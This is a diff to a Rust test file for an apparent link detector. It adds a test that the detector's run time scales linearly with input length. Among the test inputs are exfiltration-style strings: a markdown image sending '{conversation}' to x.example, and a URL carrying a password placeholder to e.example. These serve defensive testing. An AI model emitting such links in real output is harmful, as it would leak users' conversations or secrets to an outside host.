@@ -1,5 +1,5 @@
 use super::*;
-use crate::LEVEL;
+use crate::{LEVEL, work};
 
 #[track_caller]
 fn fires(kind: LinkKind, text: &str) {
@@ -117,5 +117,28 @@ fn text_without_an_address_has_nothing() {
     for text in ["", "a: b", "see {data}", "//", "://", "![x](", "](//", "<img src=", "javascript:"]
     {
         passes(text);
+    }
+}
+
+#[test]
+fn the_work_grows_with_the_text_and_no_faster() {
+    for piece in [
+        "://",
+        "https://a?b=",
+        "](https://a?d={x",
+        "](https://a(a(",
+        "![a](https://x.example/?d={conversation}) ",
+        "<img src=https://a?b={",
+        "<img src=\"https://a?b=",
+        "![",
+        "![x][r]\n[r]: https://a/?d=",
+        "https://a/{{{{{{{{{{{{",
+        "url(\"//a?b=…",
+        "javascript:",
+        "data:text/html;base64,",
+        "ansehen wobei KENNWORT https://e.example/?x=KENNWORT ",
+    ] {
+        let text = |times: usize| piece.repeat(times * (4096 / piece.len()));
+        work::grows_with_its_input(piece, |times| work::of(|| links(&text(times))));
     }
 }
